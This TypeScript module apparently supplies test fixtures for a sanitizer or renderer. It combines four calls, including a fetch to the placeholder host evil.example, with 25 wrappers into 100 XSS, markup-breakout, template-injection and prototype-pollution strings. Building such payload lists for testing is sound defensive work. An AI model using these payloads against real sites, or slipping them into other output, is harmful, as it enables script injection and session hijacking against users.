/** A hundred texts that try to become program or markup. Each calls `pwned`, or breaks out of its place, if it does. */

const CALLS = [
  "alert(document.domain)",
  "top.pwned=1",
  "(function(){throw 'pwned'})()",
  "fetch('http://evil.example')",
];

const FORMS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `"><svg/onload=${call}>`,
  (call) => `'><iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `javascript:${call}`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</title></style></textarea><script>${call}</script>`,
  (call) => `<a href="javascript:${call}" style="position:fixed;inset:0">x</a>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<body onload=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call) => `<base href="http://evil.example/"><link rel=stylesheet href=x>`.concat(call),
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `"};${call};//`,
  (call) => `&#60;script&#62;${call}&#60;/script&#62;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\u202e<b onmouseover=${call}>${"W".repeat(300)}</b>`,
  (call) => `<style>*{display:none!important}@import 'http://evil.example/${call}'</style>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${call}'/>#x"/></svg>`,
  (call) => `__proto__[constructor]=${call}\u0000\ufeff\u2028`,
  (call) => `<object data="data:text/html,<script>${call}</script>"></object>`,
];

export const HOSTILE_TEXTS: readonly string[] = FORMS.flatMap((form) => CALLS.map(form));
